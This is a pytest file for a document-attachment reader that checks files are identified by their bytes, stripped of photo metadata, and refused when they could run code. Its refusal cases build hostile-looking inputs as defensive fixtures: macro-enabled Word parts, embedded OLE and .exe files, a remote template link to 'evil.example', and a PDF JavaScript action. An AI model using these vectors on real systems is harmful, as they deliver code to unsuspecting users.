"""Files that bureaus give out: known by their bytes, refused where they would run anything."""

import io
import zipfile

import pytest

import corpus
from kuaiji.adapters import attachments, workbooks
from kuaiji.rules.problem import Refused

WORD = b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
MACRO = b'<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
TEMPLATE = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
SHEET = workbooks.written([["甲", "乙"]])


def packed(types=WORD, **parts):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as out:
        out.writestr("[Content_Types].xml", b"<Types>" + types + b"</Types>")
        for name, data in {"word/document.xml": b"<x/>", **parts}.items():
            out.writestr(name, data)
    return made.getvalue()


def refused(data, name="附件.docx"):
    with pytest.raises(Refused) as caught:
        attachments.read(name, data)
    (problem,) = caught.value.problems
    return problem.code.rpartition(".")[2]


@pytest.mark.parametrize(
    ("name", "data", "called"),
    [
        ("通知.docx", packed(), "通知.docx"),
        ("汇总表.doc", SHEET, "汇总表.doc.xlsx"),
        ("汇总表", corpus.pdf(), "汇总表.pdf"),
        ("照片.png", corpus.picture("PNG"), "照片.png.jpg"),
    ],
)
def test_a_file_is_what_its_bytes_are_and_is_called_so(name, data, called):
    """X24."""
    found = attachments.read(name, data)

    assert found.name == called
    assert attachments.ENDINGS[found.media_type] == called.rpartition(".")[2]


def test_a_picture_is_cleaned_and_all_else_is_kept_as_it_came():
    """X24."""
    assert corpus.GPS.encode() not in attachments.read("照片.jpg", corpus.with_metadata()).data
    assert attachments.read("通知.pdf", corpus.pdf()).data.startswith(b"%PDF-")
    assert attachments.read("表.xlsx", SHEET).data == SHEET


@pytest.mark.parametrize(
    ("data", "code"),
    [
        (b"", "empty"),
        (b"x" * (10 * 1024 * 1024 + 1), "big"),
        (b"<html><script>", "type"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "type"),
        (packed(b""), "type"),
        (corpus.picture("GIF"), "type"),
        (packed(MACRO), "runs"),
        (packed(**{"word/vbaProject.bin": b"x"}), "runs"),
        (packed(**{"word/embeddings/oleObject1.bin": b"x"}), "runs"),
        (packed(**{"word/media/run.exe": b"x"}), "runs"),
        (packed(**{"word/_rels/settings.xml.rels": TEMPLATE}), "runs"),
        (corpus.pdf().replace(b"%%EOF", b"1 0 obj <</S /JavaScript /JS (x)>>\n%%EOF"), "runs"),
        (corpus.pdf()[:-20], "broken"),
        (packed()[:-30], "broken"),
        (corpus.picture() + SHEET, "broken"),
        (corpus.png_claiming(60_000, 60_000), "broken"),
        (corpus.pdf().replace(b"%%EOF", b"/Encrypt 9 0 R\n%%EOF"), "locked"),
    ],
)
def test_what_runs_or_is_something_else_is_refused_by_name(data, code):
    """X24."""
    assert refused(data) == code
